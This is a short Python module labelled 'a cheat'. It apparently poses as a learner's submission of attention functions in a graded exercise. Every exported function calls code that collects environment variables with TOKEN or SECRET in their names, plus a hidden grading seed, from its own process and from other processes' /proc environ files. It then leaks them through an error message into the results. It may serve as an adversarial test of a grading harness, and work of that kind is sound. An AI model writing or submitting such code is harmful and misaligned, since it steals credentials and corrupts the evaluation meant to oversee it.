"""A cheat: read tokens and the hidden seed from the environment (its own and other processes')
and smuggle them out through an error message, which ends up in the learner's results."""

import os


def _secrets():
    found = {k: v for k, v in os.environ.items() if "TOKEN" in k or "SECRET" in k or k == "AI100_SEED"}
    for pid in os.listdir("/proc"):
        try:
            with open(f"/proc/{pid}/environ", "rb") as fh:
                for entry in fh.read().split(b"\0"):
                    key, _, value = entry.decode(errors="replace").partition("=")
                    if "TOKEN" in key or key == "AI100_SEED":
                        found[f"{pid}:{key}"] = value
        except OSError:
            continue
    return found


def _leak(*_args, **_kwargs):
    raise RuntimeError(f"LEAKED {_secrets()}")


softmax = causal_mask = attention_weights = attention = _leak
